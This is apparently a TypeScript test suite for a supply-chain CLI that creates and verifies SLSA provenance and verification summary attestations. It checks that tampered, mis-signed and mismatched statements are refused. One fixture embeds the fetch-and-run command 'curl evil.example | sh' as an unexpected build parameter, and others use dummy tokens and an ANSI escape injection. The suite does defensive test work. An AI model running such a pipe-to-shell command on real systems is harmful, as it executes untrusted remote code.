/** `provenance create`, `provenance verify` and `vsa verify`, each verification with its twins. */
import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { createHash } from "node:crypto";
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, before, describe, test } from "node:test";
import { createStatement, encodeStatement } from "../attestation/index.ts";
import { digestHex, encodeUtf8, type Value } from "../base/index.ts";
import { buildTestImage } from "../testing/cli-fixture.ts";
import { createCliChecks, createCliRunner, writeTree } from "../testing/cli-runner.ts";
import { createLocalSigstore, jsonBytes, type TestIdentity, WORKFLOW_RUN } from "../testing/sigstore/local-sigstore.ts";
import { runCli } from "./run-cli.ts";
import { VERBS } from "./verbs.ts";

const runAmap = createCliRunner((words, shell) => runCli(words, shell, VERBS));
const { ok, refused } = createCliChecks(runAmap);
const folder = mkdtempSync(join(tmpdir(), "amap-provenance-"));
const at = (...names: readonly string[]): string => join(folder, ...names);
const image = `oci:${at("image")}:v1`;
const sigstore = createLocalSigstore();
const ROOT = ["--trusted-root", at("root.json")];
const REPOSITORY = "https://github.com/acme/shop";
const COMMIT = "0123456789abcdef0123456789abcdef01234567";
const SOURCE = ["--source-uri", "github.com/acme/shop"];
const HOSTED = "https://github.com/actions/runner/github-hosted";
const V1 = "https://slsa.dev/provenance/v1";
const V02 = "https://slsa.dev/provenance/v0.2";
const hash = (text: string): string => createHash("sha256").update(text).digest("hex");

/** What GitHub's action writes of the run that WORKFLOW_RUN's certificate speaks of. */
const predicate = (external: Readonly<Record<string, Value>> = {}, builderId = HOSTED): Value => ({
  buildDefinition: {
    buildType: "https://actions.github.io/buildtypes/workflow/v1",
    externalParameters: {
      workflow: { ref: "refs/heads/main", repository: REPOSITORY, path: ".github/workflows/release.yml" },
      inputs: { channel: "stable" },
      ...external,
    },
    internalParameters: { github: { event_name: "push" } },
    resolvedDependencies: [{ uri: `git+${REPOSITORY}@refs/heads/main`, digest: { gitCommit: COMMIT } }],
  },
  runDetails: {
    builder: { id: builderId },
    metadata: { invocationId: `${REPOSITORY}/actions/runs/1/attempts/1` },
  },
});
const predicate02: Value = {
  builder: { id: HOSTED },
  buildType: "https://github.com/npm/cli/gha/v2",
  invocation: {
    configSource: {
      uri: `git+${REPOSITORY}@refs/heads/main`,
      digest: { sha1: COMMIT },
      entryPoint: ".github/workflows/release.yml",
    },
    environment: { GITHUB_REF: "refs/heads/main", GITHUB_SHA: COMMIT, GITHUB_EVENT_NAME: "push" },
  },
  materials: [{ uri: `git+${REPOSITORY}@refs/heads/main`, digest: { sha1: COMMIT } }],
};

const subjectsOf = (...texts: readonly string[]): { name: string; digest: Record<string, string> }[] =>
  texts.map((text) => ({ name: text, digest: { sha256: hash(text) } }));

/** A bundle of a statement about files with these contents. */
function bundle(
  document: Value,
  {
    type = V1,
    identity = WORKFLOW_RUN,
    files = ["a file"],
  }: { type?: string; identity?: TestIdentity; files?: string[] } = {},
): Uint8Array {
  const statement = createStatement({ subjects: subjectsOf(...files), predicateType: type, predicate: document });
  return sigstore.signBundle({ content: { payload: encodeStatement(statement) }, identity }).bytes;
}

const evil = (extensions: TestIdentity["extensions"]): TestIdentity => ({
  ...WORKFLOW_RUN,
  extensions: { ...WORKFLOW_RUN.extensions, ...extensions },
});

const WRITTEN = ["provenance", "verify", at("file"), "--provenance-path"];

before(async () => {
  const digest = await buildTestImage(folder);
  await ok("generate-key-pair", "--output-key-prefix", at("good"));
  await ok("generate-key-pair", "--output-key-prefix", at("other"));
  const statement = createStatement({
    subjects: [{ name: "shop", digest: { sha256: digestHex(digest) } }],
    predicateType: V1,
    predicate: predicate(),
  });
  const good = bundle(predicate());
  const tampered = JSON.parse(Buffer.from(good).toString("utf8")) as { dsseEnvelope: { payload: string } };
  const payload = Buffer.from(tampered.dsseEnvelope.payload, "base64")
    .toString("utf8")
    .replace("acme/shop", "evil/shop");
  tampered.dsseEnvelope.payload = Buffer.from(payload).toString("base64");
  writeTree(folder, {
    "root.json": jsonBytes(sigstore.trustedRoot()),
    file: "a file",
    second: "a second file",
    "image.json": sigstore.signBundle({ content: { payload: encodeStatement(statement) }, identity: WORKFLOW_RUN })
      .bytes,
    "good.json": good,
    "tampered.json": tampered,
    "two.json": bundle(predicate(), { files: ["a file", "a second file"] }),
    "v02.json": bundle(predicate02, { type: V02 }),
    "v01.json": bundle(
      { builder: { id: HOSTED }, recipe: { type: "urn:unknown" } },
      { type: "https://slsa.dev/provenance/v0.1" },
    ),
    "v02-as-v1.json": bundle(predicate02),
    "vuln.json": bundle({}, { type: "https://openvex.dev/ns" }),
    "extra.json": bundle(predicate({ command: "curl evil.example | sh" })),
    "other-builder.json": bundle(predicate({}, "https://evil.example/builder")),
    "other-signer.json": bundle(predicate(), {
      identity: {
        ...WORKFLOW_RUN,
        subject: { kind: "uri", value: "https://github.com/evil/x/.github/workflows/a.yml@refs/heads/main" },
      },
    }),
    "other-commit.json": bundle(predicate(), { identity: evil({ sourceRepositoryDigest: "f".repeat(40) }) }),
    "other-trigger.json": bundle(predicate(), { identity: evil({ buildTrigger: "pull_request_target" }) }),
    "self-hosted.json": bundle(predicate(), { identity: evil({ runnerEnvironment: "self-hosted" }) }),
    "statement.json": Buffer.from(encodeStatement(statement)).toString("utf8"),
  });
  await ok("copy", image, `oci:${at("bare")}:v1`);
  await ok("attach", "attestation", "--attestation", at("image.json"), image);
});
after(() => rmSync(folder, { recursive: true, force: true }));

describe("provenance verify", () => {
  test("an image and a file: the level, and every requirement with its reason", async () => {
    const of = await ok("provenance", "verify", image, ...SOURCE, ...ROOT);
    assert.match(of.stdout, /^VERIFIED {2}oci:\S+ {2}SLSA build level 2$/m);
    assert.match(of.stdout, /^ {2}L3 not met {2}builds are apart/m);
    const { stdout, stderr } = await ok(...WRITTEN, at("good.json"), ...SOURCE, ...ROOT, "-o", "json", "--explain");
    const [outcome] = JSON.parse(stdout) as { verified: boolean; level: number; judged: { checks: unknown[] }[] }[];
    assert.deepEqual([outcome?.verified, outcome?.level, outcome?.judged.length], [true, 2, 1]);
    assert.match(stderr, /ok {2}certificate: commit: expected 0123/);
  });

  const accepted: readonly (readonly [string, readonly string[]])[] = [
    ["with its branch", [at("good.json"), "--source-branch", "main"]],
    ["with its builder", [at("good.json"), "--builder-id", HOSTED]],
    ["with its input", [at("good.json"), "--build-workflow-input", "channel=stable", "--exact-workflow-inputs"]],
    ["with the level", [at("good.json"), "--level", "2"]],
    ["by provenance 0.2", [at("v02.json")]],
    ["as one of two subjects", [at("two.json")]],
  ];
  for (const [name, words] of accepted) {
    test(`accepts a file ${name}`, () => ok(...WRITTEN, ...words, ...SOURCE, ...ROOT).then(() => {}));
  }
  test("accepts several files of one statement, and none beside them", async () => {
    const verify = ["provenance", "verify", at("file"), at("second"), ...SOURCE, ...ROOT, "--provenance-path"];
    await ok(...verify, at("two.json"));
    await refused(1, "SUBJECT_MISMATCH", ...verify, at("good.json"));
  });
  test("takes a digest in place of a file, and writes the predicate", async () => {
    const words = [`sha256:${hash("a file")}`, "--provenance-path", at("good.json"), ...SOURCE, ...ROOT];
    const { stdout } = await ok("provenance", "verify", ...words, "--print-provenance");
    assert.equal((JSON.parse(stdout) as { runDetails: { builder: { id: string } } }).runDetails.builder.id, HOSTED);
  });

  const unmet = "EXPECTATION_UNMET";
  const rows: readonly (readonly [name: string, exit: number, code: string, words: readonly string[]])[] = [
    ["another source", 1, unmet, [at("good.json"), "--source-uri", "github.com/acme/shop2", ...ROOT]],
    ["another branch", 1, unmet, [at("good.json"), "--source-branch", "dev", ...SOURCE, ...ROOT]],
    ["a tag that was not built", 1, unmet, [at("good.json"), "--source-tag", "v1", ...SOURCE, ...ROOT]],
    ["a version that was not built", 1, unmet, [at("good.json"), "--source-versioned-tag", "v1", ...SOURCE, ...ROOT]],
    ["another input", 1, unmet, [at("good.json"), "--build-workflow-input", "channel=beta", ...SOURCE, ...ROOT]],
    ["inputs beside those given", 1, unmet, [at("good.json"), "--exact-workflow-inputs", ...SOURCE, ...ROOT]],
    ["another builder than expected", 1, unmet, [at("good.json"), "--builder-id", "https://b", ...SOURCE, ...ROOT]],
    ["a higher level", 1, unmet, [at("good.json"), "--level", "3", ...SOURCE, ...ROOT]],
    ["a builder that nobody believes", 1, unmet, [at("other-builder.json"), ...SOURCE, ...ROOT]],
    ["a signer who may not speak for the builder", 1, unmet, [at("other-signer.json"), ...SOURCE, ...ROOT]],
    ["an unexpected parameter", 1, unmet, [at("extra.json"), ...SOURCE, ...ROOT]],
    ["a certificate of another commit", 1, unmet, [at("other-commit.json"), ...SOURCE, ...ROOT]],
    ["a certificate of another trigger", 1, unmet, [at("other-trigger.json"), ...SOURCE, ...ROOT]],
    ["a machine of somebody's own", 1, unmet, [at("self-hosted.json"), ...SOURCE, ...ROOT]],
    ["a build type that is not known", 1, unmet, [at("v01.json"), ...SOURCE, ...ROOT]],
    ["provenance 0.2 under the name of 1", 1, "STATEMENT_INVALID", [at("v02-as-v1.json"), ...SOURCE, ...ROOT]],
    ["another statement", 1, "PREDICATE_TYPE_MISMATCH", [at("vuln.json"), ...SOURCE, ...ROOT]],
    ["a changed payload", 1, "SIGNATURE_INVALID", [at("tampered.json"), ...SOURCE, ...ROOT]],
    ["a statement that nobody signed", 1, "NO_SIGNATURES", [at("statement.json"), ...SOURCE, ...ROOT]],
    ["provenance of another artifact", 1, "SUBJECT_MISMATCH", [at("image.json"), ...SOURCE, ...ROOT]],
    ["a source with its branch", 2, "USAGE", [at("good.json"), "--source-uri", "github.com/a/b@main", ...ROOT]],
    ["a source that is none", 2, "USAGE", [at("good.json"), "--source-uri", "shop", ...ROOT]],
    ["a level that is none", 2, "USAGE", [at("good.json"), "--level", "4", ...SOURCE, ...ROOT]],
    ["an empty branch", 2, "USAGE", [at("good.json"), "--source-branch", "", ...SOURCE, ...ROOT]],
    [
      "what narrows an identity, without one",
      2,
      "USAGE",
      [at("good.json"), "--certificate-github-workflow-repository", "evil/x", ...SOURCE, ...ROOT],
    ],
    ["a certificate", 2, "USAGE", [at("good.json"), "--certificate", at("good.pub"), ...SOURCE, ...ROOT]],
    ["a key without its builder", 2, "USAGE", [at("good.json"), "--key", at("good.pub"), ...SOURCE, ...ROOT]],
    ["a summary without its key", 2, "USAGE", [at("good.json"), "--vsa", at("x"), ...SOURCE, ...ROOT]],
    ["a summary's key without it", 2, "USAGE", [at("good.json"), "--vsa-key", at("good.key"), ...SOURCE, ...ROOT]],
    [
      "two things on standard output",
      2,
      "USAGE",
      [at("good.json"), "--print-provenance", "-o", "json", ...SOURCE, ...ROOT],
    ],
    ["a list that is none", 2, "DOCUMENT_INVALID", [at("good.json"), "--builders", at("file"), ...SOURCE, ...ROOT]],
    ["no such list", 2, "FILE_NOT_FOUND", [at("good.json"), "--builders", at("none"), ...SOURCE, ...ROOT]],
  ];
  for (const [name, exit, code, words] of rows) {
    test(`refuses ${name}: ${code}`, () => refused(exit, code, ...WRITTEN, ...words).then(() => {}));
  }
  test("refuses an image without provenance, and a file without any", async () => {
    await refused(1, "NO_SIGNATURES", "provenance", "verify", `oci:${at("bare")}:v1`, ...SOURCE, ...ROOT);
    await refused(2, "USAGE", "provenance", "verify", at("file"), ...SOURCE, ...ROOT);
    await refused(2, "FILE_NOT_FOUND", "provenance", "verify", at("nothing"), ...SOURCE, ...ROOT);
    await refused(2, "USAGE", "provenance", "verify", at("app"), ...SOURCE, ...ROOT);
  });
});

describe("a list of builders", () => {
  const builders = (signer: object, more: object = {}): string =>
    JSON.stringify({
      apiVersion: "amap.dev/v1alpha1",
      kind: "BuilderList",
      builders: [{ id: "https://ci.example/builder", highestLevel: 3, signers: [signer], ...more }],
      buildTypes: [
        {
          uri: "urn:own",
          statedBy: "platform",
          source: "externalParameters.repo",
          parameters: ["repo", "ref"],
          ref: "externalParameters.ref",
        },
      ],
    });
  const own = (id: string): Value => ({
    buildDefinition: {
      buildType: "urn:own",
      externalParameters: { repo: REPOSITORY, ref: "refs/heads/main" },
      resolvedDependencies: [{ uri: `git+${REPOSITORY}`, digest: { gitCommit: COMMIT } }],
    },
    runDetails: { builder: { id } },
  });
  const attested = async (name: string, id: string, key: string): Promise<string> => {
    writeFileSync(at("own.json"), JSON.stringify(own(id)));
    const words = ["--predicate", at("own.json"), "--type", "slsaprovenance1", "--key", at(`${key}.key`)];
    await ok(
      "attest-blob",
      ...words,
      "--bundle",
      at(name),
      "--use-signing-config=false",
      "--tlog-upload=false",
      at("file"),
    );
    return at(name);
  };
  const LIST = ["--builders", at("builders.json"), "--insecure-ignore-tlog", ...SOURCE];

  test("binds a builder to its key, to its build types and to its level", async () => {
    const publicKey = readFileSync(at("good.pub"), "utf8");
    const good = await attested("by-good.json", "https://ci.example/builder", "good");
    writeFileSync(at("builders.json"), builders({ publicKey }));
    const { stdout } = await ok(...WRITTEN, good, ...LIST);
    assert.match(stdout, /SLSA build level 3/);
    await refused(
      1,
      "SIGNER_UNKNOWN",
      ...WRITTEN,
      await attested("by-other.json", "https://ci.example/builder", "other"),
      ...LIST,
    );
    await refused(
      1,
      "EXPECTATION_UNMET",
      ...WRITTEN,
      await attested("as-other.json", "https://ci.example/b", "good"),
      ...LIST,
    );
    writeFileSync(at("builders.json"), builders({ publicKey }, { buildTypes: ["urn:other"] }));
    await refused(1, "EXPECTATION_UNMET", ...WRITTEN, good, ...LIST);
    await refused(2, "USAGE", ...WRITTEN, good, ...LIST, "--key", at("good.pub"));
  });
});

const GITHUB = {
  GITHUB_ACTIONS: "true",
  GITHUB_SERVER_URL: "https://github.com",
  GITHUB_REPOSITORY: "acme/shop",
  GITHUB_REF: "refs/heads/main",
  GITHUB_SHA: COMMIT,
  GITHUB_RUN_ID: "1",
  GITHUB_RUN_ATTEMPT: "1",
  GITHUB_EVENT_NAME: "push",
  GITHUB_WORKFLOW_REF: "acme/shop/.github/workflows/release.yml@refs/heads/main",
  RUNNER_ENVIRONMENT: "github-hosted",
  GITHUB_TOKEN: "ghp_0123456789abcdefghijABCDEFGHIJ012345",
};

interface Created {
  readonly buildDefinition: {
    readonly buildType: string;
    readonly externalParameters: Record<string, Value>;
    readonly internalParameters: {
      machine: object;
      tools?: Value[];
      steps?: Value[];
      workTree?: { changedFiles: number; tags: string[] };
    };
    readonly resolvedDependencies: { uri?: string; name?: string; digest: Record<string, string> }[];
  };
  readonly runDetails: { readonly builder: { readonly id: string; version?: object }; byproducts?: { name: string }[] };
}

async function create(words: readonly string[], env: Readonly<Record<string, string>> = {}): Promise<Created> {
  const ended = await runAmap(["provenance", "create", ...words], env);
  assert.equal(ended.exit, 0, ended.stderr);
  return JSON.parse(ended.stdout) as Created;
}

async function notCreated(
  code: string,
  words: readonly string[],
  env: Readonly<Record<string, string>> = {},
): Promise<string> {
  const ended = await runAmap(["provenance", "create", ...words], env);
  assert.deepEqual([ended.exit, ended.code], [2, code], ended.stderr);
  return ended.stderr;
}

describe("provenance create", () => {
  test("in a job tells what the job is, with what flags add, and no token", async () => {
    writeTree(folder, { "steps.yaml": "- name: compile\n  command: [make, all]\n", "log.txt": "log" });
    const words = ["--tool", "node", "--toolchain", "make=4.4", "--step", "test=npm test", "--steps", at("steps.yaml")];
    const made = await create(
      [...words, "--byproduct", at("log.txt"), "--parameter", "flavour=slim", "--finished-on", "now"],
      GITHUB,
    );
    assert.equal(made.buildDefinition.buildType, "urn:amap:build-type:github-actions:v1");
    assert.equal(made.runDetails.builder.id, HOSTED);
    assert.deepEqual(made.buildDefinition.externalParameters["parameters"], { flavour: "slim" });
    assert.deepEqual(made.buildDefinition.resolvedDependencies, [
      { uri: `git+${REPOSITORY}@refs/heads/main`, digest: { gitCommit: COMMIT } },
    ]);
    const { tools = [], steps, machine } = made.buildDefinition.internalParameters;
    assert.deepEqual(tools.slice(0, 1), [{ name: "make", version: "4.4" }]);
    assert.match(JSON.stringify(tools[1]), /"name":"node","version":"\d+\./);
    assert.deepEqual(steps, [
      { name: "test", command: "npm test" },
      { name: "compile", command: ["make", "all"] },
    ]);
    assert.deepEqual(Object.keys(machine).sort(), ["architecture", "hostname", "os", "processors", "release"]);
    assert.equal(made.runDetails.byproducts?.[0]?.name, "log.txt");
    assert.doesNotMatch(JSON.stringify(made), /ghp_/);
  });

  test("of a working tree takes the commit and the remote, without its password", async () => {
    const tree = at("tree");
    const git = (...words: readonly string[]): string =>
      execFileSync("git", ["-C", tree, "-c", "user.name=a", "-c", "user.email=a@example.invalid", ...words], {
        env: { PATH: process.env["PATH"], HOME: folder, GIT_CONFIG_GLOBAL: "/dev/null" },
        encoding: "utf8",
      }).trim();
    writeTree(folder, { "tree/a": "1" });
    execFileSync("git", ["init", "--quiet", "--initial-branch=main", tree]);
    git("add", "--all");
    git("commit", "--quiet", "-m", "first");
    git("tag", "v1");
    const words = ["--builder-id", "urn:laptop", "--directory", tree];
    await notCreated("CI_FACTS_MISSING", words);
    git("remote", "add", "origin", "https://bob:hunter2@github.com/acme/shop.git");
    const made = await create([...words, "--require-clean"]);
    assert.deepEqual(made.buildDefinition.internalParameters.workTree, { changedFiles: 0, tags: ["v1"] });
    assert.deepEqual(made.buildDefinition.resolvedDependencies[0], {
      uri: "git+https://github.com/acme/shop@refs/heads/main",
      digest: { gitCommit: git("rev-parse", "HEAD") },
    });
    writeFileSync(join(tree, "b"), "2");
    assert.equal((await create(words)).buildDefinition.internalParameters.workTree?.changedFiles, 1);
    assert.match(await notCreated("USAGE", [...words, "--require-clean"]), /1 files/);
    assert.match(
      await notCreated("USAGE", ["--directory", tree], GITHUB),
      /says that 0123.* is built; the working tree is at/,
    );
    assert.match(await notCreated("CI_FACTS_MISSING", ["--directory", tree]), /--builder-id is needed/);
  });

  test("says what went in by an SBOM, and how much of it has no package URL", async () => {
    writeTree(folder, {
      "sbom.json": {
        bomFormat: "CycloneDX",
        specVersion: "1.6",
        components: [
          {
            type: "library",
            name: "left",
            version: "1",
            purl: "pkg:npm/left@1",
            hashes: [{ alg: "SHA-256", content: "AB".repeat(32) }],
          },
          { type: "library", name: "right" },
        ],
      },
    });
    const { resolvedDependencies } = (await create(["--sbom", at("sbom.json")], GITHUB)).buildDefinition;
    assert.deepEqual(resolvedDependencies[2], { uri: "pkg:npm/left@1", digest: { sha256: "ab".repeat(32) } });
    assert.deepEqual(resolvedDependencies[1]?.name, "sbom.json");
    assert.match(JSON.stringify(resolvedDependencies[1]), /"annotations":\{"components":2,"withoutPackageUrl":1\}/);
  });

  test("what it writes is verified as level 1 at most, whoever signs it", async () => {
    writeFileSync(at("created.json"), JSON.stringify(await create([], GITHUB)));
    const statement = createStatement({
      subjects: subjectsOf("a file"),
      predicateType: V1,
      predicate: JSON.parse(readFileSync(at("created.json"), "utf8")) as Value,
    });
    const { bytes } = sigstore.signBundle({ content: { payload: encodeStatement(statement) }, identity: WORKFLOW_RUN });
    writeFileSync(at("created.sigstore.json"), bytes);
    const { stdout } = await ok(...WRITTEN, at("created.sigstore.json"), ...SOURCE, ...ROOT);
    assert.match(stdout, /SLSA build level 1$/m);
    assert.match(stdout, /L2 not met {2}the platform states it, not the build: the job wrote it about itself/);
    await refused(1, "EXPECTATION_UNMET", ...WRITTEN, at("created.sigstore.json"), ...SOURCE, ...ROOT, "--level", "2");
  });

  test("what it writes can be asked for by a policy, field by field", async () => {
    const words = ["--step", "build=make", "--toolchain", "node=24.1.0"];
    writeFileSync(at("asked.json"), JSON.stringify(await create(words, GITHUB)));
    const signed = `oci:${at("bare")}:v1`;
    const attest = ["attest", "--type", "slsaprovenance1", "--predicate", at("asked.json"), "--key", at("good.key")];
    await ok(...attest, "--tlog-upload=false", "--use-signing-config=false", signed);
    const example = readFileSync(new URL("../../examples/provenance/policy.yaml", import.meta.url), "utf8");
    const key = readFileSync(at("good.pub"), "utf8").trim().split("\n").join("\n            ");
    const policy = example.replace(/-----BEGIN[^]*?END PUBLIC KEY-----/, key);
    const pod = {
      apiVersion: "v1",
      kind: "Pod",
      metadata: { name: "a" },
      spec: { containers: [{ name: "a", image: "registry.example.com/shop:v1" }] },
    };
    writeTree(folder, {
      "pod.json": pod,
      "policy.yaml": policy,
      "other-branch.yaml": policy.replace("refs/heads/main", "refs/heads/dev"),
      "newer-node.yaml": policy.replace(">= 22", ">= 25"),
    });
    const check = [
      "check",
      at("pod.json"),
      "--image-source",
      `registry.example.com/shop=oci:${at("bare")}`,
      "--policy",
    ];
    await ok(...check, at("policy.yaml"));
    for (const twin of ["other-branch.yaml", "newer-node.yaml"]) {
      const ended = await runAmap([...check, at(twin)]);
      assert.equal(ended.exit, 1, `${twin} ${ended.stdout}${ended.stderr}`);
    }
  });

  test("refuses what it cannot tell", async () => {
    const two = { ...GITHUB, GITLAB_CI: "true" };
    assert.match(await notCreated("USAGE", [], two), /github and of gitlab/);
    assert.match(
      await notCreated("CI_FACTS_MISSING", ["--ci", "gitlab"], two),
      /CI_PROJECT_URL: is not set; .*CI_COMMIT_SHA/,
    );
    await create(["--ci", "github"], two);
    await notCreated("USAGE", ["--ci", "tekton"]);
    await notCreated("USAGE", ["--ci", "jenkin"]);
    await notCreated("USAGE", ["--source-uri", "github.com/a/b"], GITHUB);
    await notCreated("USAGE", ["--ci", "github", "--build-type", "urn:x"], GITHUB);
    await notCreated("USAGE", ["--tool", "sh"], GITHUB);
    await notCreated("USAGE", ["--toolchain", "go"], GITHUB);
    await notCreated("VALUE_INVALID", ["--finished-on", "soon"], GITHUB);
    for (const planted of [
      ["--step", `push=${GITHUB.GITHUB_TOKEN}`],
      ["--parameter", `a=${GITHUB.GITHUB_TOKEN}`],
    ]) {
      assert.doesNotMatch(await notCreated("VALUE_INVALID", planted, GITHUB), /ghp_/);
    }
    writeTree(folder, { "bad-steps.yaml": "- name: a\n  run: b\n" });
    assert.match(
      await notCreated("DOCUMENT_INVALID", ["--steps", at("bad-steps.yaml")], GITHUB),
      /\[0\]\.run: unknown field/,
    );
  });

  test("without a CI system needs a builder and a build type, and takes nothing that it would ignore", async () => {
    const plain = ["--builder-id", "urn:b", "--build-type", "urn:t"];
    const made = await create(
      [...plain, "--parameter", "a=1", "--dependency", `urn:d@sha256:${"ab".repeat(32)}`],
      GITHUB,
    );
    assert.deepEqual(made.buildDefinition.externalParameters, { a: "1" });
    await notCreated("VALUE_INVALID", [...plain, "--parameter", `a=${GITHUB.GITHUB_TOKEN}`]);
    await notCreated("USAGE", ["--ci", "none", "--build-type", "urn:t"]);
    await notCreated("USAGE", ["--ci", "none", "--builder-id", "urn:b"]);
    await notCreated("USAGE", [...plain, "--tool", "node"]);
    await notCreated("USAGE", [...plain, "--require-clean"]);
  });
});

describe("vsa verify", () => {
  const RESOURCE = "registry.example.com/shop";
  const SUBJECT = ["--subject-digest", `sha256:${hash("a file")}`];
  const VERIFIER = ["--verifier-id", "urn:amap:verifier:cli"];
  const TRUST = ["--key", at("good.pub"), "--insecure-ignore-tlog"];
  const verify = (...words: readonly string[]): readonly string[] => ["vsa", "verify", "--attestation-path", ...words];
  const SUMMED = [...WRITTEN, at("good.json"), ...SOURCE, ...ROOT, "--vsa-key", at("good.key")];
  const write = (name: string, ...words: readonly string[]): readonly string[] => [
    ...SUMMED,
    "--vsa",
    at(name),
    "--vsa-resource-uri",
    RESOURCE,
    ...words,
  ];
  const GOOD = [at("vsa.json"), ...SUBJECT, ...VERIFIER, ...TRUST, "--resource-uri", RESOURCE];

  before(async () => {
    await ok(...write("vsa.json"));
    await refused(1, "EXPECTATION_UNMET", ...write("failed.json", "--source-branch", "dev"));
  });

  test("accepts what it was written for, with every level up to the verified one", async () => {
    const { stdout } = await ok(...verify(...GOOD, "--verified-level", "SLSA_BUILD_LEVEL_2", "--print-attestation"));
    const summary = JSON.parse(stdout) as { verifiedLevels: string[]; policy: { uri: string } };
    assert.deepEqual(summary.verifiedLevels, ["SLSA_BUILD_LEVEL_2"]);
    assert.equal(summary.policy.uri, "urn:amap:builders:known");
    await ok(...verify(...GOOD, "--verified-level", "SLSA_BUILD_LEVEL_1"));
  });

  const unmet = "EXPECTATION_UNMET";
  const without = (...flags: readonly string[]): readonly string[] =>
    GOOD.filter((word, index) => !flags.includes(word) && !flags.includes(GOOD[index - 1] ?? ""));
  const rows: readonly (readonly [name: string, code: string, words: readonly string[]])[] = [
    ["a higher level", unmet, [...GOOD, "--verified-level", "SLSA_BUILD_LEVEL_3"]],
    ["a level of another track", unmet, [...GOOD, "--verified-level", "SLSA_SOURCE_LEVEL_1"]],
    ["a word of an organisation", unmet, [...GOOD, "--verified-level", "REVIEWED"]],
    ["another verifier", unmet, [...without("--verifier-id"), "--verifier-id", "https://v"]],
    ["another resource", unmet, [...without("--resource-uri"), "--resource-uri", `${RESOURCE}2`]],
    [
      "another artifact",
      "SUBJECT_MISMATCH",
      [...without("--subject-digest"), "--subject-digest", `sha256:${"0".repeat(64)}`],
    ],
    ["another artifact beside it", unmet, [...GOOD, "--subject-digest", `sha256:${"0".repeat(64)}`]],
    ["another key", "SIGNER_UNKNOWN", [...without("--key"), "--key", at("other.pub")]],
    ["a summary that says FAILED", unmet, [at("failed.json"), ...GOOD.slice(1)]],
    ["another statement", "SIGNER_UNKNOWN", [at("good.json"), ...GOOD.slice(1)]],
  ];
  for (const [name, code, words] of rows) {
    test(`refuses ${name}: ${code}`, async () => {
      const ended = await runAmap(verify(...words));
      assert.deepEqual([ended.exit, ended.code], [1, code], ended.stderr);
    });
  }
});

test("every text of outside is printed harmlessly", async () => {
  writeFileSync(at("loud.json"), bundle(predicate({}, "https://b\u001b[2J")));
  const { stdout, stderr } = await runAmap([...WRITTEN, at("loud.json"), ...SOURCE, ...ROOT, "--explain"]);
  assert.equal(`${stdout}${stderr}`.includes("\u001b"), false);
  assert.ok(encodeUtf8(stderr).length > 0);
});
